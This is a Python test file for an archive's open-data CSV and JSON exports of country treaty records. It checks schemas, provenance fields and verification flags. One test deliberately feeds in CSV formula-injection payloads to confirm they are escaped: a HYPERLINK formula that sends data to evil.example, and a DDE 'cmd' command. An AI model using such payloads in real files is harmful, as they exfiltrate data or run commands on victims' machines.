"""Open data: one CSV row and one JSON record per country, valid against the published schemas."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from types import SimpleNamespace

import jsonschema

from archive_core.country_records import CountryRecord
from archive_core.provenance import Citation, Correction
from archive_core.schema import ArticleMeta, Source, Translation, TranslationStep
from open_data.datasets import article_rows, articles_json, countries_csv, countries_json, country_rows
from open_data.schemas import articles_schema, countries_schema

SITE = "https://archive.example"
UNTC = Citation(
    "https://treaties.un.org/doc/x.xml",
    title="Status",
    publisher="UN Treaty Collection",
    accessed=date(2026, 11, 29),
)
RECORDS = {
    "PL": CountryRecord("PL", "signed", (UNTC,), date(2025, 10, 25), "hanoi"),
    "GB": CountryRecord(
        "GB",
        "signed",
        (Citation("https://press.example/uk", publisher="Press", accessed=date(2026, 11, 29)),),
        place="hanoi",
        verified=False,
        note={"pl": "Tylko prasa.", "en": "The press only, | with a bar."},
        corrections=(Correction(date(2026, 11, 29), {"pl": "Dodano.", "en": "Added."}),),
    ),
    "CH": CountryRecord("CH", "unknown"),
}
ABOUT = {"license": {"name": "CC BY 4.0", "url": "https://creativecommons.org/licenses/by/4.0/"}, "schema": SITE}


def pages():
    return {code: SimpleNamespace(code=code, record=record) for code, record in RECORDS.items()}


def test_csv_has_one_row_per_country_with_its_provenance():
    rows = list(csv.DictReader(io.StringIO(countries_csv(country_rows(pages(), SITE)))))
    assert [row["code"] for row in rows] == ["CH", "GB", "PL"]
    by_code = {row["code"]: row for row in rows}
    assert by_code["PL"]["status"] == "signed" and by_code["PL"]["verified"] == "true"
    assert by_code["PL"]["source_publishers"] == "UN Treaty Collection"
    assert by_code["PL"]["sources_accessed"] == "2026-11-29"
    assert by_code["PL"]["archived_copies"] == ""  # none was given: a Wayback Machine lookup is no copy
    assert by_code["GB"]["verified"] == "false" and by_code["GB"]["date"] == ""
    assert by_code["GB"]["note_en"] == "The press only, | with a bar." and by_code["GB"]["corrections"] == "1"
    assert by_code["CH"]["status"] == "unknown" and by_code["CH"]["source_urls"] == ""
    assert by_code["PL"]["page_en"] == f"{SITE}/en/countries/poland/"


def test_countries_json_validates_against_its_schema():
    data = json.loads(countries_json(country_rows(pages(), SITE), {**ABOUT, "as_of": "2026-11-29"}))
    jsonschema.validate(data, countries_schema(f"{SITE}/data/countries.schema.json"))
    assert len(data["countries"]) == 3
    gb = next(row for row in data["countries"] if row["code"] == "GB")
    assert gb["sources"][0]["archived"] is None


def test_articles_json_has_metadata_not_text_and_validates():
    meta = ArticleMeta(
        title="Signing",
        date=datetime(2025, 10, 26),
        lang="en",
        translation_key="signing",
        slug="signing",
        source=Source("https://www.example.vn/a", "VNA", accessed=date(2026, 1, 2)),
        translation=Translation("pl", "editors"),
        translation_chain=(TranslationStep("vi", "pl", "unknown"), TranslationStep("pl", "en", "editors")),
    )
    summary = '<p>The <em>signing</em>, per <a href="https://www.unodc.org/">UNODC</a> &amp; VNA</p>\n'
    article = SimpleNamespace(archive=meta, url="en/2025/signing/", summary=summary, content="<p>The text.</p>")
    data = json.loads(articles_json(article_rows([article], SITE), ABOUT))
    jsonschema.validate(data, articles_schema(f"{SITE}/data/articles.schema.json"))
    (row,) = data["articles"]
    assert row["source"] == {
        "url": "https://www.example.vn/a",
        "publisher": "VNA",
        "accessed": "2026-01-02",
        "archived": None,
    }
    assert [step["from"] for step in row["translation_chain"]] == ["vi", "pl"]
    assert row["summary"] == "The signing, per UNODC & VNA"  # as text: the summary's HTML is the listings'
    assert "The text." not in json.dumps(data)


def test_no_csv_cell_is_a_formula():
    """A note or publisher a spreadsheet would run as a formula (`=HYPERLINK(...)`) is written as text ('=...)."""
    hostile = ('=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0")
    record = CountryRecord(
        "PL",
        "signed",
        (Citation("https://press.example/a", publisher=hostile[2], accessed=date(2026, 11, 29)),),
        place="hanoi",
        note={"en": hostile[0], "pl": hostile[1]},
    )
    rows = country_rows({"PL": SimpleNamespace(code="PL", record=record)}, SITE)
    (row,) = csv.DictReader(io.StringIO(countries_csv(rows)))
    assert (row["note_en"], row["note_pl"], row["source_publishers"]) == tuple(f"'{text}" for text in hostile)
    assert all(not value.startswith(("=", "+", "-", "@")) for value in row.values())
    assert json.loads(countries_json(rows, ABOUT))["countries"][0]["note"]["en"] == hostile[0]  # the JSON as written


def test_a_country_no_source_names_is_not_said_to_be_verified():
    # CH: the record the country pages give a country with no record (`CountryRecord(code, "unknown")`); nothing
    # was checked, so the export states no verification either way (null, an empty CSV cell), never `true`.
    rows = country_rows(pages(), SITE)
    data = json.loads(countries_json(rows, {**ABOUT, "as_of": "2026-11-29"}))
    jsonschema.validate(data, countries_schema(f"{SITE}/data/countries.schema.json"))
    by_code = {row["code"]: row for row in data["countries"]}
    assert by_code["CH"]["status"] == "unknown" and by_code["CH"]["verified"] is None
    assert by_code["PL"]["verified"] is True and by_code["GB"]["verified"] is False
    cells = {row["code"]: row for row in csv.DictReader(io.StringIO(countries_csv(rows)))}
    assert cells["CH"]["verified"] == "" and cells["PL"]["verified"] == "true" and cells["GB"]["verified"] == "false"
